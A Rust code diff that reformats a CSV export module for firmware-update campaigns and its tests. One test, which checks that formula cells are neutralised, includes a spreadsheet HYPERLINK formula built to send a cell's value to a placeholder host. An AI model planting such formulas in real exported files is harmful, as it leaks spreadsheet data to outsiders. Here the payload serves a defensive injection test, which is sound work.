@@ -82,11 +82,7 @@ pub fn campaign_csv(
     let id = campaign.id.to_string();
     for device in devices {
         let key = &campaign.keys[device.key];
-        let target = key
-            .firmware
-            .as_ref()
-            .map(|f| f.version.to_string())
-            .unwrap_or_default();
+        let target = key.firmware.as_ref().map(|f| f.version.to_string()).unwrap_or_default();
         let wave = device.wave.map(wave_name).unwrap_or_default();
         let run = device.run.map(|r| r.to_string()).unwrap_or_default();
         let kind = device.status.kind();
@@ -218,34 +214,19 @@ mod tests {
             "c": null, "d": {"e": [true]}
         });
         let compact = serde_json::to_string(&value).unwrap();
-        assert_eq!(
-            indented(&compact),
-            serde_json::to_string_pretty(&value).unwrap()
-        );
+        assert_eq!(indented(&compact), serde_json::to_string_pretty(&value).unwrap());
     }
     use crate::domain::tracking::Tracked;
     use crate::testing::{context, plan};
 
     #[test]
     fn cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
-        for text in [
-            "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
-            "+1",
-            "-2",
-            "@SUM(A1)",
-            "\tx",
-            "\rx",
-        ] {
+        for text in
+            ["=HYPERLINK(\"http://x/?\"&A1,\"click\")", "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
+        {
             assert_eq!(cell(text), format!("'{text}"), "{text:?}");
         }
-        for text in [
-            "C221081600019",
-            "Ultra Stream HDMI",
-            "1.5.178",
-            "",
-            "a=b",
-            " =x",
-        ] {
+        for text in ["C221081600019", "Ultra Stream HDMI", "1.5.178", "", "a=b", " =x"] {
             assert_eq!(cell(text), text, "{text:?}");
         }
     }
@@ -279,10 +260,7 @@ mod tests {
             lines[0],
             "run,serial_number,device,from_version,target_version,outcome,final,attempt"
         );
-        assert_eq!(
-            lines[1],
-            "4,A,Ultra Stream HDMI,1.5.79,1.5.178,verified,yes,1"
-        );
+        assert_eq!(lines[1], "4,A,Ultra Stream HDMI,1.5.79,1.5.178,verified,yes,1");
         assert_eq!(
             lines[2],
             "4,B,Ultra Stream HDMI,1.5.79,1.5.178,install failed at step 3: flash write failed (code 103),yes,1"
@@ -295,26 +273,14 @@ mod tests {
 
     #[test]
     fn csv_cells_read_back_as_written_whatever_they_hold() {
-        let cells = [
-            "plain",
-            "a, b",
-            "say \"hi\"",
-            "two\nlines",
-            "cr\r",
-            "",
-            "=1+1",
-            "\"",
-        ];
+        let cells = ["plain", "a, b", "say \"hi\"", "two\nlines", "cr\r", "", "=1+1", "\""];
         let mut table = CsvText::default();
         table.neutralised_row(cells);
         table.neutralised_row(["", "", "", "", "", "", "", ""]);
-        let mut reader = csv::ReaderBuilder::new()
-            .has_headers(false)
-            .from_reader(table.0.as_bytes());
-        let rows: Vec<Vec<String>> = reader
-            .records()
-            .map(|r| r.unwrap().iter().map(str::to_string).collect())
-            .collect();
+        let mut reader =
+            csv::ReaderBuilder::new().has_headers(false).from_reader(table.0.as_bytes());
+        let rows: Vec<Vec<String>> =
+            reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect();
         assert_eq!(rows.len(), 2);
         assert_eq!(rows[0], cells.map(|c| cell(c).into_owned()));
         assert_eq!(rows[1], vec![String::new(); 8]);
@@ -347,9 +313,7 @@ mod tests {
                 Just(Value::Null),
                 any::<bool>().prop_map(Value::from),
                 any::<i64>().prop_map(Value::from),
-                any::<f64>()
-                    .prop_filter("finite", |f| f.is_finite())
-                    .prop_map(Value::from),
+                any::<f64>().prop_filter("finite", |f| f.is_finite()).prop_map(Value::from),
                 text.clone().prop_map(Value::from),
             ];
             leaf.prop_recursive(4, 48, 6, move |inner| {
